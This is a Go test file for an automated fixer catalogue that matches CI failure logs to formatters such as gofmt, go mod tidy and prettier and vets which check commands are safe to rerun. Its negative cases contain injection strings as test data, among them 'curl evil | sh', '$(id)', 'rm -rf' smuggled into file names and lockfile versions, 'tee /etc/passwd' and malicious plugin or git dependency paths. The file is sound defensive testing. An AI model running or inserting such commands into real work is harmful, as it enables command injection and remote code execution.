package fix

import (
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"

	"github.com/sre-agent/sre-agent/internal/failure"
	"github.com/sre-agent/sre-agent/internal/fault"
)

func mustLoad(t testing.TB) *Catalogue {
	t.Helper()
	c, err := Load()
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func report(command string, lines ...string) failure.Report {
	log := "##[group]Run x\n\x1b[36;1m" + strings.ReplaceAll(command, "\n", "\x1b[0m\n\x1b[36;1m") + "\x1b[0m\nshell: bash\n##[endgroup]\n" + strings.Join(lines, "\n") + "\n##[error]Process completed with exit code 1.\n"
	return failure.Explain([]byte(log))
}

func TestTheCatalogueIsCheapestFirst(t *testing.T) {
	c := mustLoad(t)
	for i, e := range c.entries[1:] {
		if e.Rank < c.entries[i].Rank {
			t.Errorf("%s comes after %s", e.Name, c.entries[i].Name)
		}
	}
	if names := c.Names(); slices.Index(names, "gofmt") > slices.Index(names, "go-mod-tidy") || !slices.Contains(names, "prettier") {
		t.Error(names)
	}
}

func TestABadEntryIsRefused(t *testing.T) {
	good := `
name: x
kind: lint
title: X
rule: gofmt
when: {commands: ['\bx\b'], files: ['**']}
touches: ['**']
fix: {tree: write, script: "x"}
check: {tree: read, script: "x"}
`
	if _, err := load(fstest.MapFS{"x.yaml": {Data: []byte(good)}}); err != nil {
		t.Fatal(err)
	}
	for name, edit := range map[string][2]string{
		"an unknown field":                  {"title: X", "titel: X"},
		"no kind":                           {"kind: lint\n", ""},
		"an unknown kind":                   {"kind: lint", "kind: agent"},
		"an unknown rule":                   {"rule: gofmt", "rule: y"},
		"a broken expression":               {`'\bx\b'`, `'('`},
		"a broken glob":                     {"touches: ['**']", "touches: ['[']"},
		"a broken template":                 {`script: "x"}` + "\ncheck", `script: "{{"}` + "\ncheck"},
		"a check with network":              {"check: {tree: read", "check: {network: true, tree: read"},
		"a check expression not anchored":   {"touches", "checks: ['x']\ntouches"},
		"a prepare step that sees the tree": {"touches", "prepare: {tree: read, script: x}\ntouches"},
		"no script":                         {`fix: {tree: write, script: "x"}`, `fix: {tree: write}`},
		"an unknown access":                 {"tree: write", "tree: all"},
		"another name than its file's":      {"name: x", "name: y"},
	} {
		if text := strings.Replace(good, edit[0], edit[1], 1); text == good {
			t.Errorf("%s: the edit did not apply", name)
		} else if c, err := load(fstest.MapFS{"x.yaml": {Data: []byte(text)}}); err == nil {
			t.Errorf("%s was accepted: %+v", name, c.entries[0].spec)
		}
	}
}

func TestQuotedNamesAreOneWordToTheShell(t *testing.T) {
	names := []string{"-x.go", "a;rm -rf b.go", "new\nline.go", "it's.go", `"$(touch pwned)".go`, "`id`.go", "a b.go", "*", "~", "--", `back\slash`, "", "日本.go"}
	cmd := exec.Command("sh", "-c", `for a in `+quotePaths(names)+`; do printf '%s\0' "$a"; done`)
	cmd.Dir = t.TempDir()
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
	want := slices.Clone(names)
	want[0], want[9] = "./-x.go", "./--"
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if left, _ := filepath.Glob(filepath.Join(cmd.Dir, "*")); len(left) > 0 {
		t.Errorf("a name was run: %v", left)
	}
}

func TestAFailureFindsItsFixersAndTheFilesItNames(t *testing.T) {
	repo := []string{"go.mod", "main.go", "pkg/a.go", "other/b.go", "vendor/x/c.go", "web/package.json", "web/src/app.ts", "a b.js", "package.json", "x/dup.go", "y/dup.go"}
	tests := map[string]struct {
		report failure.Report
		want   []Match
	}{
		"gofmt by its command":                        {report(`test -z "$(gofmt -l .)"`), []Match{{Fixer: "gofmt"}}},
		"gofmt with the files it lists":               {report("gofmt -l . && exit 1", "pkg/a.go", "vendor/x/c.go", "missing.go", "dup.go"), []Match{{Fixer: "gofmt", Files: []string{"pkg/a.go"}}}},
		"gofmt by another tool's words":               {report("make lint", "pkg/a.go:1: File is not properly formatted (gofmt)"), []Match{{Fixer: "golangci-lint", Files: []string{"pkg/a.go"}}, {Fixer: "gofmt", Files: []string{"pkg/a.go"}}}},
		"go mod tidy by its command":                  {report("go mod tidy -diff"), []Match{{Fixer: "go-mod-tidy"}}},
		"go mod tidy by what a build says":            {report("go build ./...", "go: updates to go.mod needed; to update it:", "\tgo mod tidy"), []Match{{Fixer: "go-mod-tidy", Files: []string{"go.mod"}}}},
		"prettier by its output, from a subfolder":    {report("npm run lint", "[warn] src/app.ts", "[warn] Code style issues found in the above file. Run Prettier with --write to fix."), []Match{{Fixer: "prettier", Files: []string{"web/src/app.ts"}}}},
		"prettier with a blank in the name":           {report("npx prettier --check .", "[warn] a b.js"), []Match{{Fixer: "prettier", Files: []string{"a b.js"}}}},
		"a failing test has no fixer":                 {report("go test ./...", "--- FAIL: TestX", "    a_test.go:3: got 1"), nil},
		"a compiler error has no fixer":               {report("go build ./...", "main.go:3:2: undefined: x"), nil},
		"a formatter of another kind is not taken on": {report("golines -l ."), nil},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, mustLoad(t).Match(tt.report, repo)); diff != "" {
				t.Error(diff)
			}
		})
	}
	if got := mustLoad(t).Match(report("gofmt -l ."), []string{"README.md", "vendor/a/b.go"}); got != nil {
		t.Errorf("a repository without Go files of its own: %v", got)
	}
}

func TestOnlyHarmlessCommandsAreKnownChecks(t *testing.T) {
	c := mustLoad(t)
	for _, command := range []string{
		`test -z "$(gofmt -l .)"`, `test -z $(gofmt -l -s ./cmd ./internal)`, `test -z "$(gofmt -l . | tee /dev/stderr)"`, `[ -z "$(gofmt -s -l .)" ]`,
		"go mod tidy -diff", "go -C sub/dir mod tidy -diff", "cd sub && go mod tidy -diff", "  go mod tidy -diff\n",
		"npx prettier --check .", "npx --no-install prettier -c lib 'src/**/*.{ts,tsx}'", "prettier --check **/*.ts", `prettier --list-different "src/**" --ignore-path .gitignore`,
		"npx prettier --check AGENTS.md --log-level warn", "npx prettier . --check",
	} {
		if run, ok := c.KnownCheck(command); !ok || run != strings.TrimSpace(command) {
			t.Errorf("%q is not known", command)
		}
	}
	for _, command := range []string{
		"", "make lint", "npm run lint", "gofmt -l .", "gofmt -w .", `test -z "$(gofmt -l . && curl evil)"`, `test -z "$(gofmt -l .)"; curl evil`, "test -z \"$(gofmt -l .)\"\ncurl evil",
		`test -z "$(gofmt -l /etc)"`, `test -z "$(gofmt -l . | tee /etc/passwd)"`, `test -z "$(gofmt -l . | tee /dev/stderr /dev/stdout)"`, `test -z "$(gofmt -l ../other)"`, `test -z "$(gofmt -l $(id))"`,
		"go mod tidy", "go mod tidy -diff -modfile=x", "go mod tidy -diff # x", "cd .. && go mod tidy -diff", "cd /tmp && go mod tidy -diff", "cd a && cd b && go mod tidy -diff",
		"npx prettier .", "prettier --write .", "prettier --check . --write", "prettier --check --plugin=./evil.js .", "prettier --check . && curl evil", "prettier --check $(id)", "prettier --check `id`",
		"prettier --check \"$(id)\"", "prettier --check '$(id)' | sh", "prettier --check ../x", "prettier --check /etc", "npx evil prettier --check .", "npx -p evil prettier --check .", "prettier --check . > x", "prettier --config /etc/x --check .",
		"prettier --check " + strings.Repeat("a ", 1000),
	} {
		if run, ok := c.KnownCheck(command); ok {
			t.Errorf("%q is known as %q", command, run)
		}
	}
}

func tools() map[string]string {
	return map[string]string{
		"go": "go1.26.8", "gofmt": "", "find": "", "xargs": "", "node": "v20.1.0", "npm": "10.0.0",
		"python3": "Python 3.11.2", "black": "black, 23.1.0 (compiled: no)", "isort": "5.6.4", "poetry": "Poetry (version 1.3.2)",
	}
}

func inputs(fixer, command string, files map[string]string, named ...string) Inputs {
	in := Inputs{Match: Match{Fixer: fixer, Files: named}, Report: report(command), RepositoryID: "1", Tools: tools(), Files: map[string][]byte{}}
	for name, text := range files {
		in.RepoFiles = append(in.RepoFiles, name)
		in.Files[name] = []byte(text)
	}
	return in
}

func TestPlansAreDeclinedWithTheirReason(t *testing.T) {
	const gomod = "module m\n\ngo 1.22\n"
	pkg := `{"devDependencies":{"prettier":"3.3.3"}}`
	without := inputs("gofmt", "gofmt -l .", map[string]string{"a.go": "", "go.mod": gomod})
	delete(without.Tools, "gofmt")
	unread := inputs("go-mod-tidy", "go mod tidy -diff", map[string]string{"go.mod": gomod})
	unread.Files = nil
	odd := inputs("gofmt", "gofmt -l .", map[string]string{"a.go": "", "go.mod": gomod})
	odd.Tools["go"] = "devel"
	tests := map[string]struct {
		in   Inputs
		want string
	}{
		"an unknown fixer":                       {inputs("nope", "", nil), ReasonNoFixer},
		"a missing program":                      {without, ReasonToolMissing},
		"a go that does not say its version":     {odd, ReasonToolVersionUnknown},
		"gofmt for a newer go.mod":               {inputs("gofmt", "gofmt -l .", map[string]string{"go.mod": "module m\ngo 1.99\n"}), ReasonToolVersion},
		"gofmt for a go.mod before doc comments": {inputs("gofmt", "gofmt -l .", map[string]string{"go.mod": "module m\ngo 1.18\n"}), ReasonToolVersion},
		"gofmt for an older workflow":            {inputs("gofmt", "gofmt -l .", map[string]string{"go.mod": gomod, ".github/workflows/a.yml": "    go-version: 1.18\n"}), ReasonToolVersion},
		"gofmt for an unreadable go.mod":         {inputs("gofmt", "gofmt -l .", map[string]string{"go.mod": "module\n\x00("}), ReasonBadManifest},
		"tidy for a newer go":                    {inputs("go-mod-tidy", "go mod tidy -diff", map[string]string{"go.mod": "module m\ngo 1.26.9\n"}), ReasonToolVersion},
		"tidy for a newer toolchain":             {inputs("go-mod-tidy", "go mod tidy -diff", map[string]string{"go.mod": "module m\ngo 1.22\ntoolchain go1.99.0\n"}), ReasonToolVersion},
		"tidy for a go.mod nobody could read":    {unread, ReasonBadManifest},
		"tidy with a vendor folder":              {inputs("go-mod-tidy", "go mod tidy -diff", map[string]string{"go.mod": gomod, "vendor/modules.txt": ""}), ReasonVendored},
		"tidy for one of two modules":            {inputs("go-mod-tidy", "make", map[string]string{"a/go.mod": gomod, "b/go.mod": gomod}), ReasonAmbiguousFolder},
		"prettier of no version":                 {inputs("prettier", "npx prettier --check .", map[string]string{"package.json": "{}"}), ReasonToolVersionUnknown},
		"prettier from a git repository":         {inputs("prettier", "npx prettier --check .", map[string]string{"package.json": `{"devDependencies":{"prettier":"git+https://evil/x"}}`}), ReasonToolVersionUnknown},
		"prettier by an alias":                   {inputs("prettier", "npx prettier --check .", map[string]string{"package.json": `{"devDependencies":{"prettier":"npm:evil@1.0.0"}}`}), ReasonToolVersionUnknown},
		"prettier from a file":                   {inputs("prettier", "npx prettier --check .", map[string]string{"package.json": `{"devDependencies":{"prettier":"file:./evil"}}`}), ReasonToolVersionUnknown},
		"prettier whatever is newest":            {inputs("prettier", "npx prettier --check .", map[string]string{"package.json": `{"devDependencies":{"prettier":"latest"}}`}), ReasonToolVersionUnknown},
		"prettier with a broken package.json":    {inputs("prettier", "npx prettier --check .", map[string]string{"package.json": "{"}), ReasonBadManifest},
		"prettier in one of two packages":        {inputs("prettier", "npx prettier --check .", map[string]string{"a/package.json": pkg, "b/package.json": pkg}), ReasonAmbiguousFolder},
		"prettier with plugins":                  {inputs("prettier", "npx prettier --check .", map[string]string{"package.json": pkg, ".prettierrc": "plugins:\n  - prettier-plugin-x\n"}), ReasonNeedsPlugins},
		"prettier with plugins in an override":   {inputs("prettier", "npx prettier --check .", map[string]string{"package.json": pkg, "sub/.prettierrc.json": `{"overrides":[{"options":{"plugins":["x"]}}]}`}), ReasonNeedsPlugins},
		"prettier with a shared configuration":   {inputs("prettier", "npx prettier --check .", map[string]string{"package.json": `{"devDependencies":{"prettier":"3.3.3"},"prettier":"@acme/config"}`}), ReasonNeedsPlugins},
		"prettier with a configuration program":  {inputs("prettier", "npx prettier --check .", map[string]string{"package.json": pkg, "prettier.config.mjs": "import x from 'x'\nexport default x"}), ReasonNeedsPlugins},
		"prettier with nothing to check":         {inputs("prettier", "make", map[string]string{"package.json": pkg}), ReasonNoCheck},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			p, err := mustLoad(t).Plan(tt.in)
			if reason, _ := fault.Reason(err); reason != tt.want {
				t.Errorf("want %s, got %+v, %v", tt.want, p, err)
			}
			if !slices.Contains(Reasons(), tt.want) {
				t.Errorf("%s is not in the closed set", tt.want)
			}
		})
	}
}

func TestTheCheckIsTheRepositorysElseTheLogsElseTheFixers(t *testing.T) {
	files := map[string]string{"go.mod": "module m\ngo 1.22\n", "a.go": ""}
	for name, tt := range map[string]struct{ command, check, from, want string }{
		"named by the repository": {`test -z "$(gofmt -l .)"`, "make fmt-check", CheckFromRepository, "make fmt-check"},
		"known from the log":      {`test -z "$(gofmt -l .)"`, "", CheckFromLog, `test -z "$(gofmt -l .)"`},
		"the fixer's own":         {`curl evil | sh; gofmt -l .`, "", CheckFromFixer, "find . "},
	} {
		in := inputs("gofmt", tt.command, files)
		in.Check = tt.check
		p, err := mustLoad(t).Plan(in)
		if err != nil {
			t.Fatal(err)
		}
		if p.CheckFrom != tt.from || !strings.Contains(p.CheckCommand, tt.want) || strings.Contains(p.Check.Script, "evil") || p.Check.Network {
			t.Errorf("%s: %+v", name, p)
		}
	}
}

func TestAPlanSaysWhichFilesItMayTouch(t *testing.T) {
	c := mustLoad(t)
	gomod := map[string]string{"go.mod": "module m\ngo 1.22\n", "sub/go.mod": "module m/sub\ngo 1.22\n"}
	for name, tt := range map[string]struct {
		in      Inputs
		may     []string
		mustNot []string
	}{
		"gofmt with named files":    {inputs("gofmt", "gofmt -l .", gomod, "a.go"), []string{"a.go"}, []string{"b.go", "go.mod"}},
		"gofmt without":             {inputs("gofmt", "gofmt -l .", gomod), []string{"a.go", "x/b.go"}, []string{"go.mod", "vendor/a.go", "x/testdata/a.go"}},
		"tidy at the root":          {inputs("go-mod-tidy", "go mod tidy -diff", gomod), []string{"go.mod", "go.sum"}, []string{"sub/go.mod", "a.go"}},
		"tidy in a folder":          {inputs("go-mod-tidy", "cd ./sub && go mod tidy -diff", gomod), []string{"sub/go.mod", "sub/go.sum"}, []string{"go.mod", "go.sum"}},
		"prettier with named files": {inputs("prettier", "npx prettier --check .", map[string]string{"package.json": `{"dependencies":{"prettier":"^3"}}`}, "a.ts"), []string{"a.ts"}, []string{"b.ts"}},
	} {
		p, err := c.Plan(tt.in)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		for _, f := range tt.may {
			if !p.MayTouch(f) {
				t.Errorf("%s: may not touch %s", name, f)
			}
		}
		for _, f := range tt.mustNot {
			if p.MayTouch(f) {
				t.Errorf("%s: may touch %s", name, f)
			}
		}
	}
}

func TestWantsAsksForWhatTheRulesRead(t *testing.T) {
	repo := []string{"sub/go.mod", "go.mod", "a.go", ".github/workflows/ci.yml", "vendor/x/go.mod", "web/.prettierrc.json", "web/package.json", "web/node_modules/x/package.json", "yarn.lock"}
	c := mustLoad(t)
	if diff := cmp.Diff([]string{"go.mod", "sub/go.mod", ".github/workflows/ci.yml"}, c.Wants(Match{Fixer: "gofmt"}, repo)); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]string{"yarn.lock", "web/.prettierrc.json", "web/package.json"}, c.Wants(Match{Fixer: "prettier"}, repo)); diff != "" {
		t.Error(diff)
	}
}

func TestTheVersionOfPrettierIsTheRepositorys(t *testing.T) {
	const ranged = `{"devDependencies":{"prettier":"^3.0.0"}}`
	for name, tt := range map[string]struct {
		manifest string
		locks    map[string]string
		want     string
		exact    bool
	}{
		"a package-lock":             {ranged, map[string]string{"package-lock.json": `{"packages":{"node_modules/prettier":{"version":"3.5.3"}}}`}, "3.5.3", true},
		"an old package-lock":        {ranged, map[string]string{"package-lock.json": `{"dependencies":{"prettier":{"version":"2.8.8"}}}`}, "2.8.8", true},
		"a yarn.lock":                {ranged, map[string]string{"yarn.lock": "\nprettier@^3.0.0:\n  version \"3.4.2\"\n"}, "3.4.2", true},
		"a yarn.lock of berry":       {ranged, map[string]string{"yarn.lock": "\n\"prettier@npm:^3.0.0\":\n  version: 3.4.2\n"}, "3.4.2", true},
		"a pnpm-lock":                {ranged, map[string]string{"pnpm-lock.yaml": "packages:\n\n  prettier@3.6.2:\n    resolution: {}\n"}, "3.6.2", true},
		"an exact package.json":      {`{"dependencies":{"prettier":"3.3.3"}}`, nil, "3.3.3", true},
		"a range":                    {ranged, nil, "^3.0.0", false},
		"a lock that makes no sense": {ranged, map[string]string{"package-lock.json": `{"packages":{"node_modules/prettier":{"version":"1.0.0; rm -rf /"}}}`}, "^3.0.0", false},
	} {
		locks := map[string][]byte{}
		for k, v := range tt.locks {
			locks[k] = []byte(v)
		}
		if got, exact, err := PrettierVersion([]byte(tt.manifest), locks); err != nil || got != tt.want || exact != tt.exact {
			t.Errorf("%s: %q, %v, %v", name, got, exact, err)
		}
	}
}

func TestAPackagesScriptIsFollowedToPrettier(t *testing.T) {
	pkg := `{"devDependencies":{"prettier":"3.3.3"},"scripts":{"lint":"eslint . && npm run fmt:check","fmt:check":"prettier --check **/*.ts","evil":"prettier --check . && curl evil","format":"prettier --check 'src/**' --ignore-unknown"}}`
	for command, want := range map[string]string{
		"npm run fmt:check":        "prettier --check **/*.ts",
		"npm ci\nnpm run lint":     "prettier --check **/*.ts",
		"yarn format":              "prettier --check 'src/**' --ignore-unknown",
		"npx prettier --check lib": "npx prettier --check lib",
		"npm run evil":             "prettier --check .",
	} {
		p, err := mustLoad(t).Plan(inputs("prettier", command, map[string]string{"package.json": pkg}))
		if err != nil || p.CheckCommand != want || p.CheckFrom != CheckFromLog || strings.Contains(p.Fix.Script+p.Check.Script, "evil") {
			t.Errorf("%q: %q, %v", command, p.CheckCommand, err)
		}
	}
}

func TestAConfigurationWithoutForeignCodeIsTaken(t *testing.T) {
	for _, config := range []string{
		`{"semi": false}`, "plugins: []\n", "semi: false # no plugins\n", "/** @type {import(\"prettier\").Config} */\nmodule.exports = {}\n", "// import\nexport default {plugins: []}\n",
	} {
		if NeedsPlugins([]byte(config)) {
			t.Errorf("%q", config)
		}
	}
	if !NeedsPlugins([]byte("semi: false # ours\nplugins: [evil]\n")) {
		t.Error("a comment hides what comes after it")
	}
}

func TestTheGoVersionOfAWorkflow(t *testing.T) {
	for text, want := range map[string]string{
		"  go-version: 1.18\n": "go1.18", "  go-version: '1.20'\n": "go1.20", "go: [1.17.x, 1.18]\n": "", "go-version: [ '1.17', \"1.21.3\" ] # newest\n": "go1.21.3",
		"go-version: stable": "", "go-version: ${{ matrix.go }}": "", "go-version: '^1.13'": "", "go-version-file: go.mod": "", "name: go: 1.2": "",
	} {
		if got := WorkflowGoVersion([]byte(text)); got != want {
			t.Errorf("%q: %q, not %q", text, got, want)
		}
	}
}

func TestNoSetupOfACheckLetsTheNetworkIn(t *testing.T) {
	for _, e := range mustLoad(t).entries {
		if regexp.MustCompile(`https?://`).MatchString(e.Setup + e.Check.Setup + e.Check.Script) {
			t.Errorf("%s: its check names an address", e.Name)
		}
	}
}
